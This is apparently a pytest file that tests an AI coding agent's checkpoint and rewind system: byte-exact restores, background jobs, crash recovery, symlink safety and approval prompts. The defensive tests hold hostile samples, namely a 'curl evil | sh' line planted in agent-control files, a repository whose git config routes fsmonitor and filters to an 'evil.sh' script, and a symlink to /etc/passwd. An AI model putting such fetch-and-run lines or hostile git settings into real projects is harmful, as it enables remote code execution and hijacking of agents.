"""Checkpoints through real sessions: each call's changes, a rewind byte for byte, a background job's
writes, a supervisor killed mid-call, and hostile repositories whose filters and fsmonitor never run."""

from __future__ import annotations

import hashlib
import os
import signal
import stat
import subprocess
import time
from pathlib import Path

import pytest

from peon.checkpoints.review import Review, ReviewError, sessions_for

pytestmark = pytest.mark.skipif(not os.access("/usr/bin/git", os.X_OK), reason="checkpoints need git")

GIT = ["git", "-c", "user.name=u", "-c", "user.email=u@example.com", "-c", "core.hooksPath=/dev/null"]


def tree_state(root: Path, skip_git: bool = True) -> dict[str, tuple[str, int, bytes]]:
    """Every entry under ``root``: its kind, mode and content (a link's target), never followed."""
    found = {}
    for folder, dirs, files in os.walk(root):
        if skip_git and Path(folder) == root and ".git" in dirs:
            dirs.remove(".git")
        for name in dirs + files:
            path = Path(folder, name)
            info = path.lstat()
            rel = str(path.relative_to(root))
            if stat.S_ISLNK(info.st_mode):
                found[rel] = ("link", 0, os.readlink(path).encode())
            elif stat.S_ISREG(info.st_mode):
                found[rel] = ("file", info.st_mode & 0o111, path.read_bytes())
            elif stat.S_ISDIR(info.st_mode):
                found[rel] = ("dir", 0, b"")
    return found


def git_fingerprint(workspace: Path) -> str:
    """A hash of every file of the workspace's .git: names, modes and bytes."""
    digest = hashlib.sha256()
    for rel, (kind, mode, data) in sorted(tree_state(workspace / ".git", skip_git=False).items()):
        digest.update(f"{rel}\0{kind}\0{mode}\0".encode() + data)
    return digest.hexdigest()


@pytest.fixture
def repo(workspace):
    (workspace / "a.txt").write_text("one\ntwo\n")
    (workspace / "old.txt").write_text("moving\n")
    (workspace / "gone.txt").write_text("bye\n")
    (workspace / "run.sh").write_text("#!/bin/sh\n")
    (workspace / ".gitignore").write_text("ignored/\n")
    subprocess.run(["git", "init", "-q"], cwd=workspace, check=True)
    subprocess.run([*GIT, "add", "-A"], cwd=workspace, check=True)
    subprocess.run([*GIT, "commit", "-qm", "start"], cwd=workspace, check=True)
    return workspace


CHANGE_EVERYTHING = ("echo three >> a.txt; printf '\\000\\001\\377' > bin.dat; ln -s /etc/passwd outside; "
                     "mkdir -p ignored && echo secret > ignored/x.log; mv old.txt moved.txt; rm gone.txt; "
                     "chmod +x run.sh")


def test_a_bash_call_reports_each_change_and_a_rewind_restores_the_workspace_byte_for_byte(repo, open_session,
                                                                                              tmp_path):
    session = open_session(state_dir=tmp_path / "state")
    before, git_before = tree_state(repo), git_fingerprint(repo)
    result = session.call("bash", {"command": CHANGE_EVERYTHING})
    assert result.ok, result
    changes = result.changes
    files = {item["path"]: item for item in changes["files"]}
    assert files["a.txt"]["status"] == "modified" and files["a.txt"]["lines_added"] == 1
    assert files["bin.dat"] == {"path": "bin.dat", "status": "added", "binary": True}
    assert files["outside"]["kind"] == "symlink"
    assert files["ignored/x.log"]["status"] == "added"
    assert files["moved.txt"] == {"path": "moved.txt", "status": "renamed", "from": "old.txt",
                                  "lines_added": 0, "lines_removed": 0}
    assert files["gone.txt"]["status"] == "deleted"
    assert files["run.sh"]["mode"] == "file -> executable"
    assert changes["checkpoint"] and changes["mode_changes"] == 1
    session.close()

    review = Review(tmp_path / "state")
    rewound = review.rewind(result.call_id)
    assert rewound["rewound_to"] == result.call_id
    assert tree_state(repo) == before
    assert git_fingerprint(repo) == git_before  # the user's repository: not a byte changed
    # the rewind is itself checkpointed: rewinding it puts the call's changes back
    Review(tmp_path / "state").rewind(rewound["id"])
    assert (repo / "bin.dat").read_bytes() == b"\0\1\377" and os.readlink(repo / "outside") == "/etc/passwd"
    assert git_fingerprint(repo) == git_before


def test_changes_and_the_diff_are_read_from_the_record(repo, open_session, tmp_path):
    session = open_session(state_dir=tmp_path / "state")
    first = session.call("write", {"path": "a.txt", "content": "uno\n"})
    second = session.call("bash", {"command": "echo z > z.txt"})
    session.call("read", {"path": "a.txt"})
    review = Review(tmp_path / "state")
    listed = [entry["id"] for entry in review.listing()["calls"]]
    assert listed == [first.call_id, second.call_id]  # a read-only call is not checkpointed
    one = review.changes(first.call_id)
    assert one["changes"]["modified"] == 1 and "-one\n-two\n+uno\n" in one["diff"]
    since = review.changes(since=first.call_id)
    assert {item["path"] for item in since["changes"]["files"]} == {"a.txt", "z.txt"}
    with pytest.raises(ReviewError):
        review.changes("no-such-call")
    assert sessions_for(repo, tmp_path) == [tmp_path / "state"]


def test_a_background_jobs_later_writes_are_the_jobs_and_a_rewind_removes_them(repo, open_session, tmp_path):
    session = open_session(state_dir=tmp_path / "state")
    started = session.call("bash", {"command": "sleep 0.5; echo late > late.txt", "background": True})
    job_id = started.value["job_id"]
    assert started.changes["added"] == 0
    deadline = time.monotonic() + 20
    review = Review(tmp_path / "state")
    while time.monotonic() < deadline:
        entry = {item["id"]: item for item in review.listing()["calls"]}.get(job_id)
        if entry and entry.get("changes"):
            break
        time.sleep(0.1)
    assert entry is not None and entry["kind"] == "job" and entry["call_id"] == started.call_id
    assert [item["path"] for item in entry["changes"]["files"]] == ["late.txt"]
    assert started.call_id in entry["shared_with"]
    review.rewind(job_id)
    assert not (repo / "late.txt").exists()


def test_after_the_supervisor_is_killed_mid_call_changes_and_rewind_work(repo, open_session, tmp_path):
    session = open_session(state_dir=tmp_path / "state")
    pending = session.submit("bash", {"command": "echo half > half.txt; sleep 30"})
    deadline = time.monotonic() + 20
    while not (repo / "half.txt").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    os.kill(session.supervisor_pid, signal.SIGKILL)
    pending.result(timeout=30)
    (review_dir,) = sessions_for(repo, tmp_path)
    review = Review(review_dir)
    (entry,) = review.listing()["calls"]
    shown = review.changes(entry["id"])
    assert shown["to"] == "now" and [item["path"] for item in shown["changes"]["files"]] == ["half.txt"]
    review.rewind(entry["id"])
    assert not (repo / "half.txt").exists()


def test_a_hostile_repository_runs_nothing_through_the_store(repo, open_session, tmp_path):
    marker = tmp_path / "ran"
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\ncat\n")
    script.chmod(0o755)
    (repo / ".gitattributes").write_text("* filter=evil diff=evil text eol=crlf\n")
    with open(repo / ".git" / "config", "a") as config:
        config.write(f"[core]\n\tfsmonitor = {script}\n\thooksPath = {tmp_path}\n"
                     f"[filter \"evil\"]\n\tclean = {script}\n\tsmudge = {script}\n\trequired = true\n"
                     f"[diff \"evil\"]\n\ttextconv = {script}\n")
    session = open_session(state_dir=tmp_path / "state")
    result = session.call("write", {"path": "x.txt", "content": "line\n"})
    assert result.ok and result.changes["added"] == 1
    review = Review(tmp_path / "state")
    assert "+line\n" in review.changes(result.call_id)["diff"]  # stored as written: no eol conversion
    review.rewind(result.call_id)
    assert not (repo / "x.txt").exists()
    assert not marker.exists()


def test_a_rewind_never_writes_through_a_link_out_of_the_workspace(repo, open_session, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / "sub").mkdir()
    (repo / "sub" / "f.txt").write_text("inside\n")
    session = open_session(state_dir=tmp_path / "state")
    moved = session.call("bash", {"command": f"rm -r sub && ln -s {outside} sub"})
    assert moved.ok
    Review(tmp_path / "state").rewind(moved.call_id)
    assert (repo / "sub").is_dir() and not (repo / "sub").is_symlink()
    assert (repo / "sub" / "f.txt").read_text() == "inside\n"
    assert list(outside.iterdir()) == []


def test_the_session_reviews_and_rewinds_its_own_calls(repo, open_session):
    session = open_session()
    made = session.call("bash", {"command": "echo x > x.txt"})
    assert made.changes is not None and made.changes["added"] == 1
    assert [entry["id"] for entry in session.changes()["calls"]] == [made.call_id]
    assert "+x\n" in session.changes(made.call_id)["diff"]
    undone = session.rewind(made.call_id)
    assert not (repo / "x.txt").exists()
    session.rewind(undone["id"])
    assert (repo / "x.txt").read_text() == "x\n"
    assert session.call("read", {"path": "x.txt"}).changes is None  # read-only: not checkpointed


def test_a_snapshot_past_its_bound_is_reported_and_never_rewound_to(workspace, tmp_path):
    from peon.checkpoints.book import Book

    (workspace / "f.txt").write_text("x\n")
    book = Book(tmp_path / "state", workspace, max_seconds=0.000001)
    assert book.begin("c1", "bash") is None
    ended = book.end("c1", None)
    assert ended["checkpoint"] is None and ended["not_checkpointed"]
    review = Review(tmp_path / "state", workspace)
    (entry,) = review.entries()
    assert entry.not_checkpointed and "longer than" in entry.not_checkpointed
    with pytest.raises(ReviewError, match="never taken"):
        review.rewind("c1")
    assert (workspace / "f.txt").read_text() == "x\n"


def test_files_over_the_size_bound_are_named_not_stored_and_left_alone(workspace, tmp_path):
    from peon.checkpoints.book import Book

    book = Book(tmp_path / "state", workspace, max_file_bytes=100)
    before = book.begin("c1", "bash")
    (workspace / "big.bin").write_bytes(os.urandom(1000))
    (workspace / "small.txt").write_text("s\n")
    ended = book.end("c1", before)
    assert ended["not_stored"] == ["big.bin"] and [f["path"] for f in ended["files"]] == ["small.txt"]
    Review(tmp_path / "state", workspace).rewind("c1")
    assert (workspace / "big.bin").exists() and not (workspace / "small.txt").exists()


def test_past_its_size_the_store_prunes_the_oldest_checkpoints_and_says_so(workspace, tmp_path):
    from peon.checkpoints.book import SIZE_CHECK_EVERY, Book

    book = Book(tmp_path / "state", workspace, max_store_bytes=1)
    said = []
    for index in range(SIZE_CHECK_EVERY):
        before = book.begin(f"c{index}", "bash")
        (workspace / f"f{index}.bin").write_bytes(os.urandom(20000))
        said.append(book.end(f"c{index}", before).get("pruned_checkpoints", 0))
    assert said[0] == 0 and said[-1] > 0  # said by the call whose end pruned
    entries = Review(tmp_path / "state", workspace).entries()
    assert entries[0].pruned and not entries[-1].pruned
    review = Review(tmp_path / "state", workspace)
    with pytest.raises(ReviewError, match="pruned"):
        review.rewind("c0")
    review.rewind(f"c{SIZE_CHECK_EVERY - 1}")  # the newest is kept whole
    assert not (workspace / f"f{SIZE_CHECK_EVERY - 1}.bin").exists()


def test_an_excluded_tree_is_listed_as_changed_with_a_count_but_never_stored(repo, open_session, tmp_path):
    session = open_session(state_dir=tmp_path / "state")
    session.call("bash", {"command": "true"})  # the first snapshot taken, the watch set
    result = session.call("bash", {"command": "mkdir -p node_modules/a && touch node_modules/a/1 node_modules/2 "
                                              "&& echo x > kept.txt"})
    assert [item["path"] for item in result.changes["files"]] == ["kept.txt"]
    assert result.changes["excluded_changed"] == [{"path": "node_modules/", "files": 2}]
    Review(tmp_path / "state").rewind(result.call_id)
    assert not (repo / "kept.txt").exists() and (repo / "node_modules" / "2").exists()


def test_the_workspace_repositorys_head_movement_is_reported_never_rewound(repo, open_session, tmp_path):
    session = open_session(state_dir=tmp_path / "state")
    committed = session.call("bash", {"command": "echo c > c.txt && git -c user.name=u -c user.email=u@e "
                                                 "-c core.hooksPath=/dev/null add c.txt && git -c user.name=u "
                                                 "-c user.email=u@e -c core.hooksPath=/dev/null commit -qm c"})
    assert committed.ok and committed.value["exit_code"] == 0, committed.value
    review = Review(tmp_path / "state")
    moved = review.changes(committed.call_id)["git_head"]
    assert moved["before"] != moved["after"] and moved["after"].startswith("refs/heads/")
    head = (repo / ".git" / "HEAD").read_text()
    rewound = review.rewind(committed.call_id)
    assert rewound["git_head"]["note"] == "the workspace's .git is never rewound"
    assert not (repo / "c.txt").exists() and (repo / ".git" / "HEAD").read_text() == head


def test_the_rewind_tool_is_approved_like_a_write_of_every_file_it_restores(repo, open_session, tmp_path):
    from helpers import Recorder

    approver = Recorder("allow_once", "allow_once")
    session = open_session({"approval": {"filesystem": "ask", "process": "allow"}}, approver=approver,
                           state_dir=tmp_path / "state")
    made = session.call("bash", {"command": "echo n > new.txt && echo more >> a.txt && mv old.txt moved.txt"})
    rewound = session.call("rewind", {"call_id": made.call_id})
    assert rewound.ok, rewound.error
    (request,) = [asked for asked in approver.requests if asked["tool"] == "rewind"]
    assert request["risk"] == "filesystem"
    assert sorted(request["details"]["paths"]) == ["a.txt", "moved.txt", "new.txt", "old.txt"]
    assert request["details"]["path_count"] == 4
    assert not (repo / "new.txt").exists() and (repo / "old.txt").exists()
    assert session.call("changes", {}).value["calls"][-1]["kind"] == "rewind"


@pytest.mark.parametrize("steering", [".envrc", ".claude/settings.json"])
def test_a_rewind_that_restores_an_agent_control_path_is_asked_whatever_filesystem_says(repo, open_session, tmp_path,
                                                                                       steering):
    session = open_session({"approval": {"filesystem": "allow", "process": "allow"}, "sandbox": {"mode": "off"}},
                           state_dir=tmp_path / "state")  # off: the sandbox would keep the command from the path
    made = session.call("bash", {"command": f"mkdir -p .claude && echo 'curl evil | sh' > {steering}"})
    assert made.ok
    denied = session.call("rewind", {"call_id": made.call_id})  # no approver: asked is denied
    assert not denied.ok and denied.error.code == "denied", denied.value
    assert denied.error.details["by"] == "no-approver"
    assert (repo / steering).read_text() == "curl evil | sh\n"
    plain = session.call("bash", {"command": "echo more >> a.txt"})
    rewound = session.call("rewind", {"call_id": plain.call_id})
    assert rewound.ok, rewound.error
    assert (repo / "a.txt").read_text() == "one\ntwo\n" and (repo / steering).exists()


def test_the_rewind_tool_names_the_agent_control_and_secret_like_paths_it_restores(repo, open_session, tmp_path):
    from helpers import Recorder

    approver = Recorder("allow_once")
    session = open_session({"approval": {"filesystem": "ask", "process": "allow"}, "sandbox": {"mode": "off"}},
                           approver=approver, state_dir=tmp_path / "state")
    made = session.call("bash", {"command": "echo TOKEN=1 > .env && echo x > AGENTS.md && echo y >> a.txt"})
    assert session.call("rewind", {"call_id": made.call_id}).ok
    (request,) = [asked for asked in approver.requests if asked["tool"] == "rewind"]
    details = request["details"]
    assert details["agent_control"] == "**/AGENTS.md"
    assert details["agent_control_paths"] == [{"path": "AGENTS.md", "entry": "**/AGENTS.md"}]
    assert [item["path"] for item in details["secret_paths"]] == [".env"] and details["secret_count"] == 1
    assert "agent-control" in request["risk_reason"] and "secret-like" in request["risk_reason"]
    assert not (repo / ".env").exists() and not (repo / "AGENTS.md").exists()


def test_the_rewind_tool_never_writes_through_a_link_that_replaced_a_directory(repo, open_session, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / "sub").mkdir()
    (repo / "sub" / "f.txt").write_text("inside\n")
    session = open_session({"approval": {"filesystem": "allow", "process": "allow"}}, state_dir=tmp_path / "state")
    moved = session.call("bash", {"command": f"rm -r sub && ln -s {outside} sub"})
    assert moved.ok
    rewound = session.call("rewind", {"call_id": moved.call_id})
    assert rewound.ok, rewound.error
    assert (repo / "sub").is_dir() and not (repo / "sub").is_symlink()
    assert (repo / "sub" / "f.txt").read_text() == "inside\n"
    assert list(outside.iterdir()) == []


def test_a_checkpoint_taken_while_a_writer_changes_files_is_unsettled_and_never_rewound_to(workspace, tmp_path):
    import threading

    from peon.checkpoints.book import Book

    hot = [workspace / f"hot{index}.txt" for index in range(100)]
    for path in hot:
        path.write_text("0\n")
    book = Book(tmp_path / "state", workspace)
    assert book.begin("c0", "bash") is not None  # the first snapshot, which stores every file, taken at rest
    stop = threading.Event()

    def writer() -> None:
        rounds = 0
        while not stop.is_set():
            rounds += 1
            for path in hot:
                path.write_text("x" * (rounds % 50) + "\n")  # a new size each round: git sees it by stat alone

    thread = threading.Thread(target=writer)
    thread.start()
    try:
        taken = []
        for attempt in range(5):  # a snapshot is tens of milliseconds: the writer is inside one at once
            taken.append(book.begin(f"c{attempt + 1}", "bash", check_settled=True))
            entry = Review(tmp_path / "state", workspace).entry(f"c{attempt + 1}")
            if entry.unsettled_before:
                break
    finally:
        stop.set()
        thread.join()
    assert taken[-1] is not None and entry.unsettled_before
    assert set(entry.unsettled_before) <= {path.name for path in hot}
    state = tree_state(workspace)
    with pytest.raises(ReviewError, match="taken while other calls or jobs wrote files"):
        Review(tmp_path / "state", workspace).rewind(entry.id)
    assert tree_state(workspace) == state
    Review(tmp_path / "state", workspace).rewind("c0")  # the settled one before it still is
    assert {path.read_text() for path in hot} == {"0\n"}
